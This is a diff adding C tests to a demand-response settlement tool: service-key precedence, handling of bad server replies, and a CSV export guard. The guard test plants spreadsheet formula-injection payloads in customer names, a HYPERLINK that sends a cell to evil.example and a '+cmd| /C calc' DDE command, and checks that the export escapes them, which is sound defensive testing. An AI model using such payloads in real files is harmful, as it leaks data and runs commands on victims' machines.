@@ -10,12 +10,16 @@
 #include <json-glib/json-glib.h>
 
 #include <errno.h>
+#include <fcntl.h>
+#include <libsoup/soup.h>
+#include <unistd.h>
 #include <signal.h>
 #include <string.h>
 #include <sys/wait.h>
 #include <glib/gstdio.h>
 
 #include "core/drd-calendar.h"
+#include "core/drd-csv.h"
 #include "core/drd-settlement.h"
 #include "kepco/drd-kepco-client.h"
 #include "kepco/drd-kepco-sim.h"
@@ -1328,6 +1332,302 @@ test_export_csv_python (Fixture       *f,
   }
 }
 
+/* ---- a broken "KEPCO" on loopback, the service key's sources ---- */
+
+typedef enum { FAKE_401, FAKE_HTML, FAKE_EMPTY } FakeMode;
+
+typedef struct {
+  SoupServer *server;
+  FakeMode    mode;
+  char       *url;
+  char       *last_key;
+  guint       n_requests;
+} FakeKepco;
+
+static void
+fake_handler (SoupServer        *server,
+              SoupServerMessage *msg,
+              const char        *path,
+              GHashTable        *query,
+              gpointer           data)
+{
+  FakeKepco *fk = data;
+  const char *key = query != NULL ? g_hash_table_lookup (query, "serviceKey") : NULL;
+
+  fk->n_requests++;
+  g_free (fk->last_key);
+  fk->last_key = g_strdup (key);
+  switch (fk->mode)
+    {
+    case FAKE_401:
+      soup_server_message_set_status (msg, 401, NULL);
+      soup_server_message_set_response (msg, "application/json", SOUP_MEMORY_STATIC,
+                                        "{\"error\":\"SERVICE_KEY_IS_NOT_REGISTERED_ERROR\"}", 46);
+      break;
+    case FAKE_HTML:
+      /* a captive portal or a proxy's page, with a 200 */
+      soup_server_message_set_status (msg, 200, NULL);
+      soup_server_message_set_response (msg, "text/html", SOUP_MEMORY_STATIC,
+                                        "<html><body>Please log in</body></html>", 39);
+      break;
+    case FAKE_EMPTY:
+    default:
+      soup_server_message_set_status (msg, 200, NULL);
+      soup_server_message_set_response (msg, "application/json", SOUP_MEMORY_STATIC, "", 0);
+      break;
+    }
+}
+
+static FakeKepco *
+fake_kepco_new (FakeMode mode)
+{
+  FakeKepco *fk = g_new0 (FakeKepco, 1);
+  g_autoptr(GError) error = NULL;
+  GSList *uris;
+
+  fk->mode = mode;
+  fk->server = soup_server_new (NULL, NULL);
+  soup_server_add_handler (fk->server, NULL, fake_handler, fk, NULL);
+  g_assert_true (soup_server_listen_local (fk->server, 0, SOUP_SERVER_LISTEN_IPV4_ONLY, &error));
+  g_assert_no_error (error);
+  uris = soup_server_get_uris (fk->server);
+  fk->url = g_strdup_printf ("http://127.0.0.1:%d", g_uri_get_port (uris->data));
+  g_slist_free_full (uris, (GDestroyNotify) g_uri_unref);
+  return fk;
+}
+
+static void
+fake_kepco_free (FakeKepco *fk)
+{
+  soup_server_disconnect (fk->server);
+  g_object_unref (fk->server);
+  g_free (fk->url);
+  g_free (fk->last_key);
+  g_free (fk);
+}
+
+typedef struct {
+  gboolean  done;
+  char     *out, *err;
+} AsyncRun;
+
+static void
+communicate_done (GObject *source, GAsyncResult *result, gpointer data)
+{
+  AsyncRun *a = data;
+
+  g_subprocess_communicate_utf8_finish (G_SUBPROCESS (source), result, &a->out, &a->err, NULL);
+  a->done = TRUE;
+}
+
+/* drdeskctl with this process's main loop running (the fake server lives
+ * here); ENV: KEY, VALUE pairs or NULL. -1 when it ran past TIMEOUT_S. */
+static int
+run_ctl_looping (const char * const *args,
+                 const char * const *env,
+                 guint               timeout_s,
+                 char              **out,
+                 char              **err)
+{
+  g_autofree char *ctl = build_path ("src/drdeskctl");
+  g_autoptr(GSubprocessLauncher) launcher =
+    g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_PIPE | G_SUBPROCESS_FLAGS_STDERR_PIPE);
+  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
+  g_autoptr(GSubprocess) proc = NULL;
+  g_autoptr(GError) error = NULL;
+  AsyncRun a = { FALSE, NULL, NULL };
+  gboolean timed_out = FALSE;
+  guint timer;
+
+  g_ptr_array_add (argv, ctl);
+  for (guint i = 0; args[i] != NULL; i++)
+    g_ptr_array_add (argv, (gpointer) args[i]);
+  g_ptr_array_add (argv, NULL);
+  for (guint i = 0; env != NULL && env[i] != NULL; i += 2)
+    g_subprocess_launcher_setenv (launcher, env[i], env[i + 1], TRUE);
+  proc = g_subprocess_launcher_spawnv (launcher, (const char * const *) argv->pdata, &error);
+  g_assert_no_error (error);
+  g_subprocess_communicate_utf8_async (proc, NULL, NULL, communicate_done, &a);
+  timer = g_timeout_add_seconds (timeout_s, timeout_flag, &timed_out);
+  while (!a.done && !timed_out)
+    g_main_context_iteration (NULL, TRUE);
+  if (!a.done)
+    {
+      g_subprocess_force_exit (proc);
+      while (!a.done)
+        g_main_context_iteration (NULL, TRUE);
+    }
+  else
+    g_source_remove (timer);
+  g_subprocess_wait (proc, NULL, NULL);
+  *out = a.out;
+  *err = a.err;
+  g_test_message ("drdeskctl: %s", a.err);
+  if (timed_out)
+    return -1;
+  return g_subprocess_get_if_exited (proc) ? g_subprocess_get_exit_status (proc) : -1;
+}
+
+/* --service-key-file, DRD_KEPCO_SERVICE_KEY, the key file next to the
+ * database; --service-key (visible in ps) still works with a warning. */
+static void
+test_cli_service_key_sources (Fixture       *f,
+                              gconstpointer  data)
+{
+  FakeKepco *fk = fake_kepco_new (FAKE_401);
+  g_autofree char *id = NULL, *out = NULL, *err = NULL;
+  g_autofree char *key_file = NULL;
+  g_autoptr(GError) error = NULL;
+
+  fixture_setup_at (f, 5, "2026-10-14T14:00:00+09:00", "2026-10-14T16:00:00+09:00");
+  g_clear_object (&f->store);
+  id = g_strdup_printf ("%" G_GINT64_FORMAT, f->event);
+  key_file = g_build_filename (f->dir, "kepco.key", NULL);
+  g_assert_true (g_file_set_contents (key_file, "from-file\n", -1, NULL));
+  g_assert_cmpint (chmod (key_file, 0600), ==, 0);
+  g_assert_true (drd_config_save_service_key (f->db_path, "from-db-file", &error));
+  g_assert_no_error (error);
+
+  {
+    const char *args[] = { "--db", f->db_path, "settle", id, "--kepco-url", fk->url,
+                           "--service-key-file", key_file, NULL };
+    const char *env[] = { "DRD_KEPCO_SERVICE_KEY", "from-env", NULL };
+
+    g_assert_cmpint (run_ctl_looping (args, env, 60, &out, &err), ==, 1);
+    g_assert_cmpstr (fk->last_key, ==, "from-file");
+    g_assert_null (strstr (err, "from-file"));
+    g_assert_null (strstr (err, "warning"));
+    g_clear_pointer (&out, g_free);
+    g_clear_pointer (&err, g_free);
+  }
+  {
+    const char *args[] = { "--db", f->db_path, "settle", id, "--kepco-url", fk->url, NULL };
+    const char *env[] = { "DRD_KEPCO_SERVICE_KEY", "from-env", NULL };
+
+    g_assert_cmpint (run_ctl_looping (args, env, 60, &out, &err), ==, 1);
+    g_assert_cmpstr (fk->last_key, ==, "from-env");
+    g_clear_pointer (&out, g_free);
+    g_clear_pointer (&err, g_free);
+  }
+  {
+    const char *args[] = { "--db", f->db_path, "settle", id, "--kepco-url", fk->url, NULL };
+
+    g_assert_cmpint (run_ctl_looping (args, NULL, 60, &out, &err), ==, 1);
+    g_assert_cmpstr (fk->last_key, ==, "from-db-file");
+    g_clear_pointer (&out, g_free);
+    g_clear_pointer (&err, g_free);
+  }
+  {
+    const char *args[] = { "--db", f->db_path, "settle", id, "--kepco-url", fk->url,
+                           "--service-key", "from-argv", NULL };
+
+    g_assert_cmpint (run_ctl_looping (args, NULL, 60, &out, &err), ==, 1);
+    g_assert_cmpstr (fk->last_key, ==, "from-argv");
+    g_assert_nonnull (strstr (err, "warning: --service-key"));
+    g_clear_pointer (&out, g_free);
+    g_clear_pointer (&err, g_free);
+  }
+  /* a key file others can read: refused before anything is sent */
+  g_assert_cmpint (chmod (key_file, 0644), ==, 0);
+  fk->n_requests = 0;
+  {
+    const char *args[] = { "--db", f->db_path, "settle", id, "--kepco-url", fk->url,
+                           "--service-key-file", key_file, NULL };
+
+    g_assert_cmpint (run_ctl_looping (args, NULL, 60, &out, &err), ==, 1);
+    g_assert_nonnull (strstr (err, "chmod 600"));
+    g_assert_cmpuint (fk->n_requests, ==, 0);
+  }
+  fake_kepco_free (fk);
+}
+
+/* A "KEPCO" that answers with an HTML page or an empty 200: `settle`
+ * names the cause and exits 1 instead of waiting on "circuit breaker
+ * open" forever. */
+static void
+check_bad_answers (Fixture *f, FakeMode mode, const char *cause)
+{
+  FakeKepco *fk = fake_kepco_new (mode);
+  g_autofree char *id = NULL, *out = NULL, *err = NULL;
+  g_autoptr(GError) error = NULL;
+
+  fixture_setup_at (f, 20, "2026-10-14T14:00:00+09:00", "2026-10-14T16:00:00+09:00");
+  g_clear_object (&f->store);
+  id = g_strdup_printf ("%" G_GINT64_FORMAT, f->event);
+  {
+    const char *args[] = { "--db", f->db_path, "settle", id, "--kepco-url", fk->url, NULL };
+    const char *env[] = { "DRD_KEPCO_SERVICE_KEY", "k", NULL };
+
+    g_assert_cmpint (run_ctl_looping (args, env, 90, &out, &err), ==, 1);
+    g_assert_nonnull (strstr (err, cause));
+    g_assert_nonnull (strstr (err, "not an outage"));
+  }
+  g_assert_cmpuint (fk->n_requests, >=, 27);
+  fake_kepco_free (fk);
+}
+
+static void
+test_cli_html_answers (Fixture *f, gconstpointer data)
+{
+  check_bad_answers (f, FAKE_HTML, "an HTML or XML page instead of JSON (HTTP 200, text/html) "
+                                   "starting “<html><body>Please log in</body></html>”");
+}
+
+static void
+test_cli_empty_answers (Fixture *f, gconstpointer data)
+{
+  check_bad_answers (f, FAKE_EMPTY, "an empty answer (HTTP 200)");
+}
+
+/* The settlement CSV is opened in spreadsheet tools: a customer named
+ * like a formula stays text, negative reductions stay numbers. */
+static void
+test_export_formula_guard (Fixture       *f,
+                           gconstpointer  data)
+{
+  g_autoptr(DrdKepcoClient) client = NULL;
+  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, f->event);
+  g_autofree char *out = NULL, *err = NULL;
+  g_autoptr(DrdCsvReader) reader = NULL;
+  guint n_negative = 0;
+  sqlite3 *db = NULL;
+
+  f->sim = start_sim (f);
+  client = new_client (f->sim);
+  run_settle (f, client, 1);
+  g_clear_object (&f->store);
+  g_assert_cmpint (sqlite3_open (f->db_path, &db), ==, SQLITE_OK);
+  g_assert_cmpint (sqlite3_exec (db, "UPDATE customers SET name = '=HYPERLINK(\"http://evil.example/?x=\"&A2,\"bonus\")' WHERE id = 1;"
+                                     "UPDATE customers SET name = '-2+3' WHERE id = 2;"
+                                     "UPDATE customers SET name = '@SUM(1+1)' WHERE id = 3;"
+                                     "UPDATE customers SET name = '+cmd|'' /C calc''!A0' WHERE id = 4;",
+                                 NULL, NULL, NULL), ==, SQLITE_OK);
+  sqlite3_close (db);
+  {
+    const char *args[] = { "--db", f->db_path, "export", "settlement", id, NULL };
+
+    g_assert_cmpint (run_ctl (args, &out, &err), ==, 0);
+  }
+  g_assert_nonnull (strstr (out, ",1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"bonus\"\")\","));
+  g_assert_nonnull (strstr (out, ",2,'-2+3,"));
+  g_assert_nonnull (strstr (out, ",3,'@SUM(1+1),"));
+  g_assert_nonnull (strstr (out, ",4,'+cmd|' /C calc'!A0,"));
+  reader = drd_csv_reader_new (out, -1);
+  g_assert_true (drd_csv_reader_next (reader, NULL));
+  while (drd_csv_reader_next (reader, NULL))
+    {
+      const char *reduction = drd_csv_reader_get_field (reader, 9);
+
+      g_assert_false (g_str_has_prefix (reduction, "'"));
+      if (reduction[0] == '-')
+        {
+          n_negative++;
+          g_assert_true (g_regex_match_simple ("^-[0-9]+\\.[0-9]{3}$", reduction, 0, 0));
+        }
+    }
+  g_assert_cmpuint (n_negative, >, 0);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -1347,6 +1647,13 @@ main (int argc, char **argv)
   g_test_add ("/settle/cli-kill-and-resume", Fixture, NULL, fixture_setup_later,
               test_cli_kill_and_resume, fixture_teardown);
   ADD ("/settle/export-csv-python", test_export_csv_python);
+  ADD ("/settle/export-formula-guard", test_export_formula_guard);
+  g_test_add ("/settle/cli-service-key-sources", Fixture, NULL, fixture_setup_later,
+              test_cli_service_key_sources, fixture_teardown);
+  g_test_add ("/settle/cli-html-answers", Fixture, NULL, fixture_setup_later,
+              test_cli_html_answers, fixture_teardown);
+  g_test_add ("/settle/cli-empty-answers", Fixture, NULL, fixture_setup_later,
+              test_cli_empty_answers, fixture_teardown);
 #undef ADD
   return g_test_run ();
 }
